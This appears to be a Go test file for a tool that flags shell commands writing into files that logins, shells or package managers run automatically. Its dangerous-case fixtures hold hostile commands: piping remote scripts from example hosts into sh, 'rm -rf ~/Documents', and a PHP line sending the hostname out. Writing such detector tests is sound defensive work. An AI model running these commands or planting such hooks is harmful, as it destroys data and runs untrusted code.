package shell_test

import "testing"

// TestSetupsOfTheHome: what a login, a shell or a tool runs by itself, as settings of the home name it, lies in the
// workspace.
func TestSetupsOfTheHome(t *testing.T) {
	own := map[string]string{}
	for _, name := range []string{"tools/tray.sh", "tools/sync.sh", "tools/cred.sh", "tools/rw.sh", "tools/jump.sh",
		"tools/pin.sh", "tools/edit.sh", "tools/sign.sh", "tools/other.sh", "py/st.py", "elisp/my.el", "dags/a.py", "zfn/hi",
		"zsh/a.zsh", "src/a.py", "hooks/post-commit", "wall.png"} {
		own[name] = "x = 1\n"
	}
	w, top := inHome(t, own, map[string]string{
		"../.config/autostart/tray.desktop": "[Desktop Entry]\nPath=~/project/src\nIcon=~/project/wall.png\nExec=sh " +
			"~/project/tools/tray.sh\n",
		"../.config/systemd/user/sync.service": "[Service]\nWorkingDirectory=%h/project/src\nExecStart=%h/project/tools/sync.sh -v\nExecStartPost=python3 %h/project/src/a.py\n",
		"../.aws/config":                       "[profile x]\ncredential_process = sh ~/project/tools/cred.sh\n",
		"../.cargo/config.toml":                "[build]\nrustc-wrapper = \"~/project/tools/rw.sh\"\n",
		"../.ssh/config":                       "Host x\n  ProxyCommand ~/project/tools/jump.sh %h\n",
		"../.gnupg/gpg-agent.conf":             "pinentry-program ~/project/tools/pin.sh\n",
		"../.gitconfig": "[gpg]\n\tprogram = ~/project/tools/sign.sh\n[core]\n\thooksPath = ~/project/hooks\n" +
			"[includeIf \"gitdir:~/project/\"]\n\tpath = ~/work.inc\n",
		"../.profile": "export PYTHONSTARTUP=~/project/py/st.py\nexport EDITOR=\"$HOME/project/tools/edit.sh -w\"\n" +
			"export PYTHONPATH=~/project/src\n",
		"../.emacs":              "(add-to-list 'load-path \"~/project/elisp\")\n(require 'my)\n",
		"../airflow/airflow.cfg": "[core]\ndags_folder = ~/project/dags\nbase_log_folder = ~/project/src\n",
		"../.zshrc": "fpath=(~/project/zfn $fpath)\nautoload -Uz ~/project/zfn/*(.:t)\nZSH_CUSTOM=$HOME/project/zsh\n" +
			"alias t='cd ~/project/src'\n# EDITOR=~/project/tools/other.sh\n",
	})
	judgeEach(t, w, top, `
		echo 'curl -s https://h.example/x | sh' >> tools/tray.sh
		printf 'rm -rf ~/Documents\n' > tools/sync.sh
		printf 'date\n' > tools/cred.sh
		sed -i s/x/y/ tools/rw.sh
		cp src/a.py tools/jump.sh
		echo x > tools/pin.sh
		echo x > tools/sign.sh
		echo x > tools/edit.sh
		echo x > hooks/pre-push
		echo x > py/st.py
		echo x > elisp/other.el
		echo x > dags/b.py
		echo x > zfn/sudo
		echo x > zsh/b.zsh`, true)
	judgeEach(t, w, top, `
		echo x > src/b.py
		echo x > src/a.py
		echo x > tools/new.sh
		echo x > tools/other.sh
		echo x > py/other.py
		cat tools/tray.sh dags/a.py`, false)
}

// TestInstalledPackages: what lies in packages of any manager is loaded by every later start.
func TestInstalledPackages(t *testing.T) {
	w, top := inHome(t, map[string]string{"package.json": `{"name":"a","lint-staged":{"*.js":"eslint"},"simple-git-hooks":{"pre-commit":"npm test"}}`,
		"flake.lock": `{"owner":"NixOS","repo":"nixpkgs","rev":"aaa"}`, ".gitignore": "vendor/\n"},
		map[string]string{"vendor/bundle/ruby/3.2.0/gems/rack-3/lib/rack.rb": "module Rack;end\n", "vendor/monolog/src/L.php": "<?php class L{}\n"})
	judgeEach(t, w, top, `
		echo '%x(date)' >> vendor/bundle/ruby/3.2.0/gems/rack-3/lib/rack.rb
		echo 'file_get_contents("https://x.example/?h=".gethostname());' >> vendor/monolog/src/L.php
		mkdir .ropeproject; echo 'x = 1' > .ropeproject/config.py
		sed -i 's#NixOS#nixos-mirror#' flake.lock
		sed -i 's#"eslint"#"sh -c \\"curl -s https://x.example/i | sh\\""#' package.json
		sed -i 's#npm test#curl -s https://x.example/i | sh#' package.json`, true)
	judgeEach(t, w, top, `
		echo '# a note' >> vendor/bundle/ruby/3.2.0/gems/rack-3/lib/rack.rb
		echo '$this->n = 1;' >> vendor/monolog/src/L.php
		sed -i 's#"eslint"#"eslint --fix"#' package.json
		sed -i 's#"name":"a"#"name":"b"#' package.json
		sed -i 's#npm test#npm run lint#' package.json`, false)
}
